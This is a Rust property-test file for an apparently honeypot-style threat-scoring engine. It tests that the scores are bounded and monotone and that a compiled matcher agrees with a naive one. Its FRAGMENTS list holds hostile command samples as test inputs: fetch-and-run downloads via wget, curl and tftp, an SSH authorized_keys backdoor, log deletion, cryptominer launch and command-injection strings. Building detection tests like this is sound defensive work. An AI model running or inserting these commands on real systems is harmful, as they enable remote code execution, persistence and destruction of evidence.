//! Property tests: the score's guarantees (bounded, monotone, clock-free, corroboration and
//! discount ordering) and the compiled matcher agreeing with the naive one on arbitrary input.

use proptest::prelude::*;
use sikker_engine::{
    score, BehaviorCount, BenignSource, Category, CommunityEvidence, Engine, Evidence,
    PrimitiveCount, Severity,
};
use sikker_event::{Event, EventData, Protocol, Request};
use std::sync::OnceLock;

fn severity() -> impl Strategy<Value = Severity> {
    prop::sample::select(Severity::ALL.to_vec())
}

fn protocol() -> impl Strategy<Value = Protocol> {
    prop::sample::select(Protocol::ALL.to_vec())
}

fn category() -> impl Strategy<Value = Category> {
    prop::sample::select(Category::ALL.to_vec())
}

fn community() -> impl Strategy<Value = CommunityEvidence> {
    (
        0u64..500,
        0u64..60,
        prop::collection::vec((category(), 0u64..50), 0..5),
    )
        .prop_map(|(reports, reporters, categories)| CommunityEvidence {
            reports,
            reporters,
            categories,
        })
}

fn sensor() -> impl Strategy<Value = Evidence> {
    (
        prop::collection::vec((0usize..12, severity(), 0u64..200), 0..6),
        prop::collection::vec((0usize..40, 0u64..200), 0..10),
        prop::collection::vec(protocol(), 0..6),
        0u64..10_000,
        0u64..1_000_000,
    )
        .prop_map(|(bs, ps, protocols, sessions, events)| Evidence {
            behaviors: bs
                .into_iter()
                .map(|(i, severity, count)| BehaviorCount {
                    id: format!("b{i}"),
                    severity,
                    count,
                })
                .collect(),
            primitives: ps
                .into_iter()
                .map(|(i, count)| PrimitiveCount {
                    id: format!("p{i}"),
                    count,
                })
                .collect(),
            protocols,
            sessions,
            events,
            community: CommunityEvidence::default(),
        })
}

fn evidence() -> impl Strategy<Value = Evidence> {
    (sensor(), community()).prop_map(|(mut e, c)| {
        e.community = c;
        e
    })
}

/// One way of adding evidence to an IP.
#[derive(Debug, Clone)]
enum More {
    Behavior(usize, Severity, u64),
    Primitive(usize, u64),
    Protocol(Protocol),
    Sessions(u64, u64),
    Reports(u64, u64, Category),
}

fn more() -> impl Strategy<Value = More> {
    prop_oneof![
        (0usize..12, severity(), 1u64..50).prop_map(|(i, s, n)| More::Behavior(i, s, n)),
        (0usize..40, 1u64..50).prop_map(|(i, n)| More::Primitive(i, n)),
        protocol().prop_map(More::Protocol),
        (0u64..100, 0u64..1000).prop_map(|(s, e)| More::Sessions(s, e)),
        (1u64..20, 0u64..5, category()).prop_map(|(r, u, c)| More::Reports(r, u, c)),
    ]
}

fn add(mut e: Evidence, m: &More) -> Evidence {
    match m {
        More::Behavior(i, s, n) => e.behaviors.push(BehaviorCount {
            id: format!("b{i}"),
            severity: *s,
            count: *n,
        }),
        More::Primitive(i, n) => e.primitives.push(PrimitiveCount {
            id: format!("p{i}"),
            count: *n,
        }),
        More::Protocol(p) => e.protocols.push(*p),
        More::Sessions(s, ev) => {
            e.sessions += s;
            e.events += ev;
        }
        More::Reports(r, u, c) => {
            e.community.reports += r;
            e.community.reporters += u;
            e.community.categories.push((*c, *r));
        }
    }
    e
}

fn benign(factor: f64) -> BenignSource {
    BenignSource {
        id: "x".into(),
        name: "X".into(),
        factor,
        ..Default::default()
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn score_is_bounded(e in evidence(), f in 0.0f64..=1.0) {
        for s in [score(&e, None), score(&e, Some(&benign(f)))] {
            prop_assert!(s.confidence <= 100);
            prop_assert!(s.raw_confidence <= 100);
            prop_assert!(s.raw.is_finite() && s.raw >= 0.0);
        }
    }

    #[test]
    fn more_evidence_never_lowers_the_score(e in evidence(), ms in prop::collection::vec(more(), 1..4), f in 0.0f64..=1.0) {
        let after = ms.iter().fold(e.clone(), add);
        let (a, b) = (score(&e, None), score(&after, None));
        prop_assert!(b.raw_confidence >= a.raw_confidence, "{} -> {}", a.raw_confidence, b.raw_confidence);
        prop_assert!(b.raw >= a.raw - 1e-9);
        let src = benign(f);
        prop_assert!(score(&after, Some(&src)).confidence >= score(&e, Some(&src)).confidence);
    }

    #[test]
    fn score_depends_on_evidence_only(e in evidence()) {
        let first = score(&e, None);
        std::thread::sleep(std::time::Duration::from_millis(1));
        prop_assert_eq!(&first, &score(&e, None));
        let mut shuffled = e.clone();
        shuffled.behaviors.reverse();
        shuffled.primitives.reverse();
        shuffled.protocols.reverse();
        shuffled.community.categories.reverse();
        prop_assert_eq!(first.raw_confidence, score(&shuffled, None).raw_confidence);
    }

    #[test]
    fn corroborated_is_at_least_either_source(s in sensor(), c in community()) {
        let mut both = s.clone();
        both.community = c.clone();
        let community_only = Evidence { community: c, ..Default::default() };
        let b = score(&both, None).raw_confidence;
        prop_assert!(b >= score(&s, None).raw_confidence);
        prop_assert!(b >= score(&community_only, None).raw_confidence);
    }

    #[test]
    fn discounted_is_at_most_raw(e in evidence(), f in 0.0f64..=1.0) {
        let s = score(&e, Some(&benign(f)));
        prop_assert!(s.confidence <= s.raw_confidence);
        prop_assert_eq!(s.raw_confidence, score(&e, None).raw_confidence);
    }
}

fn engine() -> &'static Engine {
    static E: OnceLock<Engine> = OnceLock::new();
    E.get_or_init(Engine::builtin)
}

/// Command fragments that hit many primitives, to be glued together at random.
const FRAGMENTS: &[&str] = &[
    "cd /tmp",
    "wget http://1.2.3.4/bins.sh",
    "chmod 777 x",
    "sh bins.sh",
    "uname -a",
    "/bin/busybox MIRAI",
    "enable",
    "curl -s http://h/x.sh | sh",
    "crontab -",
    "echo ok",
    "cat /proc/cpuinfo",
    "nvidia-smi",
    "xmrig --donate-level 1",
    "history -c",
    "chattr -ia .ssh",
    "echo ssh-rsa AAAA mdrfckr >> .ssh/authorized_keys",
    "rm -rf /var/log",
    "tftp -g -r m 1.2.3.4",
    "pkill -9 kdevtmpfsi",
    "ÜÖÄ",
    "`id`",
    "$(whoami)",
    "sh -c 'id; w'",
    "RM -RF X",
    "ls -la",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn compiled_matcher_equals_naive(
        picks in prop::collection::vec((0usize..FRAGMENTS.len(), prop::sample::select(vec!["; ", " && ", " | ", "\n", " "])), 1..8),
        noise in "[ -~]{0,40}",
        p in prop::sample::select(vec![Protocol::Ssh, Protocol::Telnet, Protocol::Http]),
    ) {
        let mut line = String::new();
        for (i, sep) in &picks {
            line.push_str(FRAGMENTS[*i]);
            line.push_str(sep);
        }
        line.push_str(&noise);
        let data = if p == Protocol::Http {
            EventData::Request(Request {
                method: Some("POST".into()),
                target: Some(format!("/x?q={}", line.replace(' ', "+"))),
                headers: vec![("User-Agent".into(), noise.clone())],
                body: Some(sikker_event::RawBytes(line.clone().into_bytes())),
                ..Default::default()
            })
        } else {
            EventData::Command { line }
        };
        let e = Event::new("t", uuid::Uuid::from_u128(3), p, "192.0.2.1".parse().unwrap(), 1, 22, data);
        let events = [e];
        prop_assert_eq!(engine().classify(&events), engine().classify_naive(&events));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Sessions drawn from a small pool of lines, so lines repeat within and across sessions
    /// and protocols: the per-thread line cache must never change a classification.
    #[test]
    fn line_cache_never_changes_a_classification(
        sessions in prop::collection::vec(
            (
                prop::sample::select(vec![Protocol::Ssh, Protocol::Telnet]),
                prop::collection::vec(0usize..FRAGMENTS.len() * 2, 1..12),
            ),
            1..6,
        ),
    ) {
        for (i, (p, picks)) in sessions.iter().enumerate() {
            let session = uuid::Uuid::from_u128(i as u128 + 1);
            let events: Vec<Event> = picks
                .iter()
                .map(|&k| {
                    // Odd picks glue two fragments: more distinct lines sharing commands.
                    let line = match k % 2 {
                        0 => FRAGMENTS[k / 2].to_string(),
                        _ => format!("{}; {}", FRAGMENTS[k / 2], FRAGMENTS[(k / 2 + 1) % FRAGMENTS.len()]),
                    };
                    Event::new("t", session, *p, "192.0.2.1".parse().unwrap(), 1, 22, EventData::Command { line })
                })
                .collect();
            let naive = engine().classify_naive(&events);
            prop_assert_eq!(&engine().classify(&events), &naive);
            prop_assert_eq!(&engine().classify_uncached(&events), &naive);
        }
    }
}
